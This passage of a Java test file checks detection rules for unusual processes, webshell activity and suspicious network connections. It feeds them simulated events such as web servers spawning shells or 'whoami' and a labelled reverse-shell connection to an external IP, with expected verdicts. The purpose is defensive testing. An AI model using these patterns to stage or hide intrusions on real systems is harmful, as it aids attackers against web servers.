        rows.add(exclusion(r, "apache2 7za", child("/usr/bin/dash", "sh", "sh", "-c", "\"/usr/bin/7za\" x a.zip")
                .set(Field.PARENT_NAME, "apache2")));
        rows.add(exclusion(r, "zabbix fping", shell("zabbix_server", "fping 10.0.0.1")));
        rows.add(exclusion(r, "php-fpm pdftotext", shell("php-fpm8.2", "/usr/bin/pdftotext a.pdf -")));
        rows.add(exclusion(r, "php-fpm clamdscan", shell("php-fpm8.2", "clamdscan --fdpass /tmp/upload")));
        rows.add(exclusion(r, "rsvg-convert argument", child("/usr/bin/dash", "sh", "sh", "-c",
                "/usr/bin/rsvg-convert -o out.png in.svg")));
    }

    private static void unusualProcessSpawned(List<Row> rows) {
        String r = UNUSUAL_PROCESS;
        for (String parent : UNUSUAL_PROCESS_PARENTS) {
            rows.add(new Row(r, "web parent " + parent, child("/usr/bin/dash", "sh", "sh", "-c", "id")
                    .set(Field.PARENT_NAME, parent).set(Field.USER, "deploy").set(Field.USER_ID, 1001)
                    .set(Field.PARENT_CURRENT_DIRECTORY, "/srv"), true, true, null));
        }
        TestEvent noParent = child("/usr/bin/dash", "sh", "sh", "-c", "id").set(Field.PARENT_NAME, "cron")
                .set(Field.PARENT_CURRENT_DIRECTORY, "/srv");
        for (String user : WEB_USERS) {
            rows.add(new Row(r, "web user " + user, child("/usr/bin/dash", "sh", "sh", "-c", "id")
                    .set(Field.PARENT_NAME, "cron").set(Field.PARENT_CURRENT_DIRECTORY, "/srv").set(Field.USER, user)
                    .set(Field.USER_ID, 1001), true, true, null));
        }
        for (long uid : new long[] {33, 48, 498}) {
            rows.add(new Row(r, "web uid " + uid, child("/usr/bin/dash", "sh", "sh", "-c", "id")
                    .set(Field.PARENT_NAME, "cron").set(Field.PARENT_CURRENT_DIRECTORY, "/srv").set(Field.USER, "u")
                    .set(Field.USER_ID, uid), true, true, null));
        }
        rows.add(new Row(r, "no web parent, user or directory", noParent.set(Field.USER, "deploy")
                .set(Field.USER_ID, 1001), false, false, null));
        rows.add(new Row(r, "parent in /var/www", child("/usr/bin/dash", "sh", "sh", "-c", "id")
                .set(Field.PARENT_NAME, "cron").set(Field.USER, "deploy").set(Field.USER_ID, 1001), true, true, null));
        for (String name : UNUSUAL_PROCESS_CHILDREN) {
            rows.add(new Row(r, "child " + name, child("/usr/bin/" + name, name, name), true, true, null));
        }
        for (String prefix : List.of("python3.11", "php8.2", "ruby3.1", "lua5.4", "perl", ".hidden")) {
            rows.add(new Row(r, "child like " + prefix, child("/usr/bin/" + prefix, prefix, prefix), true, true, null));
        }
        rows.add(new Row(r, "perl is an exact name in the source", child("/usr/bin/perl5.36", "perl5.36", "perl5.36"),
                false, false, null));
        for (String path : UNUSUAL_PROCESS_PATHS) {
            String exe = instance(path, "x");
            rows.add(new Row(r, "child path " + path, child(exe, "payload", exe), true, true, null));
        }
        rows.add(exclusion(r, "working directory /", child("/usr/bin/dash", "sh", "sh", "-c", "id")
                .set(Field.CURRENT_DIRECTORY, "/")));
        rows.add(exclusion(r, "working directory /home", child("/usr/bin/dash", "sh", "sh", "-c", "id")
                .set(Field.CURRENT_DIRECTORY, "/home/site/public")));
        rows.add(exclusion(r, "working directory /var/www/*.ch", child("/usr/bin/dash", "sh", "sh", "-c", "id")
                .set(Field.CURRENT_DIRECTORY, "/var/www/shop.ch")));
        rows.add(exclusion(r, "vscode server parent", child("/usr/bin/bash", "bash", "bash")
                .set(Field.PARENT_IMAGE, "/vscode/vscode-server/bin/node")));
        rows.add(new Row(r, "#! script in /tmp", child("/usr/bin/mawk", "payload", "/usr/bin/awk", "-f", "/tmp/payload")
                .set(Field.SCRIPT_PATH, "/tmp/payload"), false, true, "where a #! script lives"));
        rows.add(new Row(r, "a shell through a symlink of another name",
                child("/usr/bin/bash", "x", "/tmp/x", "-c", "id"), false, true,
                "run through a symlink of another name"));
    }

    private static TestEvent tool(String parentImage, String toolImage) {
        String name = toolImage.substring(toolImage.lastIndexOf('/') + 1);
        return child(toolImage, name, name).set(Field.PARENT_IMAGE, parentImage)
                .set(Field.PARENT_NAME, parentImage.substring(parentImage.lastIndexOf('/') + 1))
                .set(Field.LINEAGE_DEPTH, 0).remove(Field.LINEAGE_ROOT_IMAGE).remove(Field.LINEAGE_ROOT_NAME);
    }

    private static void webshellIndicators(List<Row> rows) {
        String r = SUSPICIOUS_CHILD_PROCESS;
        for (String p : WEBSHELL_PARENT_IMAGES) {
            rows.add(new Row(r, "parent " + p, tool("/usr/sbin" + p, "/usr/bin/whoami"), true, true, null));
        }
        for (String t : WEBSHELL_TOOLS) {
            String exe = t.startsWith("/bin/") ? "/usr" + t : "/usr/bin" + t;
            rows.add(new Row(r, "tool " + t, tool("/usr/sbin/nginx", exe), true, true, null));
        }
        rows.add(new Row(r, "tomcat parent", tool("/usr/lib/jvm/bin/java", "/usr/bin/whoami").parentArgv(
                "/usr/lib/jvm/bin/java", "-Dcatalina.home=/opt/tomcat"), true, true, null));
        rows.add(new Row(r, "websphere parent", tool("/opt/ibm/bin/java", "/usr/bin/whoami").parentArgv(
                "/opt/ibm/bin/java", "-Dwas.install.root=/opt/IBM/WebSphere"), true, true, null));
        rows.add(new Row(r, "a tool that is not listed", tool("/usr/sbin/nginx", "/usr/bin/ls"), false, false, null));
        rows.add(new Row(r, "php-fpm parent", tool("/usr/sbin/php-fpm8.2", "/usr/bin/whoami"), false, true,
                "php-fpm workers count as web-server parents"));
        rows.add(new Row(r, "php-fpm > sh > whoami", TestEvent.phpFpmGrandchild("/usr/bin/whoami", "whoami",
                "whoami"), false, true, "a tool anywhere in the lineage of a web server counts"));
        rows.add(new Row(r, "iptables resolved to xtables-nft-multi", tool("/usr/sbin/nginx",
                "/usr/sbin/xtables-nft-multi").set(Field.PROCESS_NAME, "iptables"), false, true,
                "recognised by process name"));
        rows.add(new Row(r, "setpriv --reuid=33 sh -c 'cat /etc/hostname'", TestEvent.exec()
                .set(Field.IMAGE, "/usr/bin/cat").set(Field.PROCESS_NAME, "cat").set(Field.COMMAND_LINE,
                        "cat /etc/hostname").set(Field.USER, "www-data").set(Field.USER_ID, 33)
                .set(Field.PARENT_IMAGE, "/usr/bin/dash").set(Field.PARENT_NAME, "sh").set(Field.LINEAGE_DEPTH, 1)
                .set(Field.LINEAGE_ROOT_NAME, "sh").set(Field.LINEAGE_ROOT_IMAGE, "/usr/bin/dash"), false, false,
                null));
    }

    private static void networkConnection(List<Row> rows) {
        String r = UNUSUAL_NETWORK;
        String external = "45.33.32.156";
        for (String name : PORT_RULE_NAMES) {
            String comm = instance(name, "8.2");
            rows.add(new Row(r, "web process " + name, connect(comm, 1001, "deploy", external, 9999), true, true,
                    null));
        }
        for (String user : WEB_USERS) {
            rows.add(new Row(r, "web user " + user, connect("curl", 1001, user, external, 9999), true, true, null));
        }
        for (long uid : new long[] {33, 48, 498}) {
            rows.add(new Row(r, "web uid " + uid, connect("curl", uid, "u", external, 9999), true, true, null));
        }
        rows.add(new Row(r, "not a web process", connect("curl", 1001, "deploy", external, 9999), false, false, null));
        for (int port : PORT_RULE_ALLOWED_PORTS) {
            rows.add(new Row(r, "allowed port " + port, connect("nginx", 33, "www-data", external, port), false, false,
                    null));
        }
        for (String cidr : PORT_RULE_CIDRS) {
            rows.add(new Row(r, "internal range " + cidr, connect("nginx", 33, "www-data", inside(cidr), 9999), false,
                    false, null));
        }
        for (int port : SIGMA_CALLBACK_PORTS) {
            rows.add(new Row(r, "callback port " + port, connect("nginx", 33, "www-data", external, port), true, true,
                    null));
        }
        for (String cidr : SIGMA_LOCAL_RANGES) {
            rows.add(new Row(r, "callback port to local range " + cidr, connect("nginx", 33, "www-data",
                    inside(cidr), 4444), false, false, null));
        }
        rows.add(new Row(r, "a php-fpm pool running as the site's own user", connect("sh", 1001, "site1", external,
                9999).set(Field.LINEAGE_DEPTH, 2).set(Field.LINEAGE_ROOT_NAME, "php-fpm8.2"), false, true,
                "any process in a web server's lineage counts"));
        rows.add(new Row(r, "a reverse shell to port 443", connect("bash", 33, "www-data", external, 443)
                .set(Field.IMAGE, "/usr/bin/bash").set(Field.LINEAGE_DEPTH, 2), false, true,
                "a shell in the lineage connecting anywhere but loopback"));
        rows.add(new Row(r, "a shell in the lineage to loopback", connect("bash", 33, "www-data", "127.0.0.1", 9000)
                .set(Field.IMAGE, "/usr/bin/bash").set(Field.LINEAGE_DEPTH, 2), false, false, null));
    }

    @TestFactory
    Stream<DynamicTest> shouldGiveTheSourcesVerdictExceptWhereADeviationIsListed() {
        return rows().stream().map(row -> DynamicTest.dynamicTest(row.rule() + ": " + row.what(), () -> {
            boolean ours = rule(row.rule()).detection().matches(row.event());
            if (row.what().startsWith(EXCLUSION)) {
                assertTrue(unfiltered(row.rule()).detection().matches(row.event()),
                        () -> row.rule() + ": without its exclusions the rule must select '" + row.what() + "'");
            }
            assertEquals(row.ours(), ours, () -> "our verdict on " + row.rule() + ": " + row.what());
            if (row.source() != row.ours()) {
                assertNotNull(row.deviation(), "source and ours differ without a named deviation");
                String description = rule(row.rule()).metadata().description().replaceAll("\\s+", " ")
                        .toLowerCase(Locale.ROOT);
                assertTrue(description.contains(row.deviation().toLowerCase(Locale.ROOT)),
                        "the rule's description lists the deviation '" + row.deviation() + "'");
            }
        }));
    }
}
